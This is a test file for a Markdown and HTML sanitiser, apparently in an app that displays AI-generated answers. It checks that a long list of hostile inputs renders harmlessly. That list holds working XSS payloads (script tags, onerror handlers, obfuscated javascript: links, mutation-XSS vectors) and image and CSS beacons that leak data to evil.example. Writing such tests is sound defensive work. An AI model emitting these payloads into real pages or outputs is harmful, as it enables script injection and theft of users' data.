import { describe, expect, it } from "vitest";
import { Blocks } from "./blocks";
import { show } from "./hydrate";
import { math } from "./math.svelte";
import { sanitiseInline, sanitiseMath, sanitisePage } from "./sanitise";

const LABELS = { citation: (number: number) => `Source ${number}`, verdict: (verdict: string) => verdict };

// What models were made to write, or pages to hold, by those who attack such apps; each in every place of Markdown.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/leak?q=secret>",
  "![leak](https://evil.example/leak?q=secret)",
  "![leak][r]\n\n[r]: https://evil.example/leak?q=secret",
  "![leak](data:image/png;base64,AAAA)",
  "[![leak](https://evil.example/leak)](https://evil.example/)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/a)",
  "[x](deepsearch://auth/callback?code=1)",
  '[x](https://a.example/ "t" onmouseover=alert(1))',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<https://a.example/"onclick=alert(1)>',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  "<iframe src=https://evil.example/></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=https://evil.example/></object>",
  "<embed src=https://evil.example/>",
  '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
  '<button class="citation" data-cite="1" onclick="alert(1)">1</button>',
  '<span data-tex="\\href{javascript:alert(1)}{x}"></span>',
  '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
  '<div style="background:url(https://evil.example/)">x</div>',
  '<video poster="https://evil.example/x" src=x autoplay></video>',
  "<details open ontoggle=alert(1)>x</details>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "`<img src=x onerror=alert(1)>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```<img/src=x onerror=alert(1)>\nx\n```",
  "&lt;img src=x onerror=alert(1)&gt;",
  "\\<img src=x onerror=alert(1)>",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x}$",
  "$\\htmlStyle{background:url(https://evil.example/)}{x}$",
  "\\[ \\url{javascript:alert(1)} \\]",
];
const PLACES = [
  (text: string) => text,
  (text: string) => `Before ${text} after`,
  (text: string) => `- item ${text}\n- next`,
  (text: string) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text: string) => `| a |\n|---|\n| ${text.replaceAll("\n", " ")} |`,
  (text: string) => `# ${text}`,
  (text: string) => `**${text}**`,
  (text: string) => `[${text}](https://a.example/)`,
];
const ALLOWED = new Set(
  ["A", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "SPAN", "STRONG", "P"].concat([
    "math",
    "semantics",
    "annotation",
    "mrow",
    "mi",
    "mn",
    "mo",
    "mtext",
    "mstyle",
    "svg",
    "path",
  ]),
);

function shown(source: string, streaming: boolean): Element {
  const root = document.createElement("div");
  const write = (value: unknown): void => {
    if (Array.isArray(value)) return value.forEach(write);
    if (typeof value !== "object" || value === null) return;
    for (const [key, inner] of Object.entries(value)) {
      if (key === "html" || key === "header" || key === "rows") [inner].flat(2).forEach(leaf);
      else write(inner);
    }
  };
  const leaf = (html: unknown) => show(root.appendChild(document.createElement("p")), String(html), LABELS);
  write(new Blocks().read(source, { sources: 3, marks: [] }, streaming));
  return root;
}

/** What in it could do something; a single wrong element would be told whole. */
function harms(root: Element | DocumentFragment): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const isHarmless =
      ALLOWED.has(element.tagName) &&
      [...element.attributes].every(
        ({ name, value }) =>
          !/^on|^src|^poster|^ping|^action|^srcdoc|^xlink/i.test(name) &&
          (name !== "href" || /^https?:\/\//.test(value)) &&
          (name !== "style" || !/url|image/i.test(value)),
      );
    return isHarmless ? [] : [element.outerHTML];
  });
}

describe("hostile Markdown", () => {
  const harmsAnywhere = (attack: string) =>
    PLACES.flatMap((place) => [true, false].flatMap((streaming) => harms(shown(place(attack), streaming))));

  it.each(HOSTILE)("%j does nothing", (attack) => expect(harmsAnywhere(attack)).toEqual([]));

  it.each(HOSTILE.filter((attack) => /\$|\\/.test(attack)))("%j does nothing as a formula", async (attack) => {
    math.prepareFor("$x$");
    await expect.poll(() => math.ready).toBe(true);
    expect(harmsAnywhere(attack)).toEqual([]);
  });
});

it("nothing in a text can pretend to be a citation, a formula or a mark", () => {
  const root = shown(
    '<span data-cite="1" data-check="0" data-tex="x">a</span> <button class="citation">1</button>',
    false,
  );
  expect(root.querySelector("span, button")).toBeNull();
});

it("the words of an image are shown, and nothing is loaded", () => {
  const root = shown(
    "See ![the **chart**](https://evil.example/c.png) and [![logo](https://evil.example/l.png)](https://a.example/).",
    false,
  );
  expect(root.querySelector("img")).toBeNull();
  expect(root.textContent).toBe("See the **chart** and logo a.example.");
});

it("the content of scripts and styles is no text", () => {
  expect(shown("a <script>alert(1)</script> b <style>p{}</style> c", false).textContent).toBe("a  b  c");
});

it("a link says where it leads unless its words do", () => {
  const hosts = (source: string) => shown(source, false).textContent;
  expect(hosts("[paper](https://www.example.org/a)")).toBe("paper example.org");
  expect(hosts("[https://bank.example/login](https://evil.example/)")).toBe("https://bank.example/login evil.example");
  expect(hosts("[bank.example.evil.example](https://bank.example/)")).toBe("bank.example.evil.example bank.example");
  expect(hosts("https://example.org/a?b=1&c=2")).toBe("https://example.org/a?b=1&c=2");
  expect(hosts("[аpple.com](https://xn--pple-43d.com/)")).toBe("аpple.com xn--pple-43d.com");
});

describe("the sanitiser alone, whatever comes to it", () => {
  it.each(HOSTILE)("%j", (attack) => {
    expect(harms(sanitiseInline(attack))).toEqual([]);
    for (const element of sanitiseMath(attack).querySelectorAll("*")) {
      expect(element.tagName).not.toMatch(/^(a|img|script|style|iframe|form|input|button|use|image|foreignobject)$/i);
      expect(element.getAttributeNames().join()).not.toMatch(/on|href|src/);
    }
    for (const element of sanitisePage(attack).querySelectorAll("*")) {
      expect(element.tagName).not.toMatch(
        /^(img|script|style|iframe|form|input|button|svg|math|link|meta|base|video)$/i,
      );
      expect(element.getAttributeNames().join()).not.toMatch(/(^|,)on|src|style|id|class|name/);
      expect(element.getAttribute("href") ?? "https://").toMatch(/^https?:\/\//);
    }
  });

  it("keeps a page's structure", () => {
    const page = document.createElement("div");
    const html =
      '<h2>Title</h2><p>A <a href="https://a.example/">link</a></p><table><tbody><tr><td colspan="2">c</td></tr></tbody></table>';
    page.append(sanitisePage(html));
    expect(page.innerHTML).toBe(html);
  });

  it("keeps a formula's looks but nothing that leads elsewhere", () => {
    const box = document.createElement("div");
    box.append(
      sanitiseMath('<span class="a" style="height:1em;color:red">x</span><span style="background:url(x)">y</span>'),
    );
    expect(box.innerHTML).toBe('<span class="a" style="height:1em;color:red">x</span><span>y</span>');
  });
});
